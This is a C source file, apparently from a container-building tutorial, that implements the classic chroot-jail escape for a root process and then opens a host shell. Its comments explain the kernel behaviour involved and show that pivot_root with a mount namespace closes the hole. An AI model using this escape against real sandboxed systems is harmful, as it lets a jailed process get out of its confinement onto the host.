/*
 * chroot-escape.c - the classic way out of a chroot jail, for a process that is root inside it.
 *
 * Build: a static program (make builds build/chroot-escape), copied into a
 * jail. Run inside the jail as root:
 *     chroot-escape                 escape, then start /bin/sh in the host's root
 *     chroot-escape --check PATH    escape, then report whether PATH exists there
 *
 * Why it works. The kernel keeps two folders per process: its root and its
 * working folder. When path lookup meets "..", it refuses to climb above the
 * process's root only if it is *at* that root (fs/namei.c, follow_dotdot:
 * "path_equal(&nd->path, &nd->root)"). It never checks whether the working
 * folder is *under* the root. So:
 *
 *   1. mkdir("x"); chroot("x")   -> the root moves down into x, but chroot(2)
 *                                   does not change the working folder, which
 *                                   now lies *outside* (above) the new root;
 *   2. chdir("..") many times     -> no step ever meets the root, so we climb
 *                                   up to the real "/" of the host (where ".."
 *                                   of "/" is "/" itself and we stay);
 *   3. chroot(".")                -> make that the root again: out.
 *
 * It needs CAP_SYS_CHROOT, which is why root in a chroot is not jailed.
 * chroot(2) says so itself: "This call does not change the current working
 * directory... In particular, the superuser can escape from a 'chroot jail'".
 * Containers do not rely on chroot: chapter 02 uses a mount namespace and
 * pivot_root(2), then unmounts the old root, so there is no host "/" left to
 * climb to. The same program, run in `tinydock run`, stays inside.
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int climb_out(void)
{
	/* 1. A fresh folder to chroot into, so our working folder is left outside the new root. */
	if (mkdir(".chroot-escape", 0700) < 0 && errno != EEXIST) {
		fprintf(stderr, "chroot-escape: mkdir .chroot-escape: %s\n", strerror(errno));
		return -1;
	}
	if (chroot(".chroot-escape") < 0) {
		fprintf(stderr, "chroot-escape: chroot .chroot-escape: %s\n", strerror(errno));
		return -1;
	}
	/* 2. Climb. 1024 levels is more than any real path has; ".." of the real "/" is "/". */
	for (int i = 0; i < 1024; i++) {
		if (chdir("..") < 0) {
			fprintf(stderr, "chroot-escape: chdir ..: %s\n", strerror(errno));
			return -1;
		}
	}
	/* 3. Wherever we are now becomes our root. */
	if (chroot(".") < 0) {
		fprintf(stderr, "chroot-escape: chroot .: %s\n", strerror(errno));
		return -1;
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && strcmp(argv[1], "--check") == 0) {
		if (climb_out() < 0)
			return 2;
		struct stat st;
		if (stat(argv[2], &st) == 0) {
			printf("escaped: %s exists in the real root\n", argv[2]);
			return 0;
		}
		printf("still jailed: %s is not visible\n", argv[2]);
		return 1;
	}
	if (argc != 1) {
		fprintf(stderr, "usage: chroot-escape [--check PATH]\n");
		return 2;
	}
	if (climb_out() < 0)
		return 2;
	/* The demonstration's point: the user gets an interactive shell in the HOST's root. This
	 * is the student's own shell to explore with, not tinydock doing its work through a tool. */
	char *const shell[] = { (char *)"sh", NULL };
	execv("/bin/sh", shell);
	fprintf(stderr, "chroot-escape: escaped, but cannot start /bin/sh: %s\n", strerror(errno));
	return 2;
}
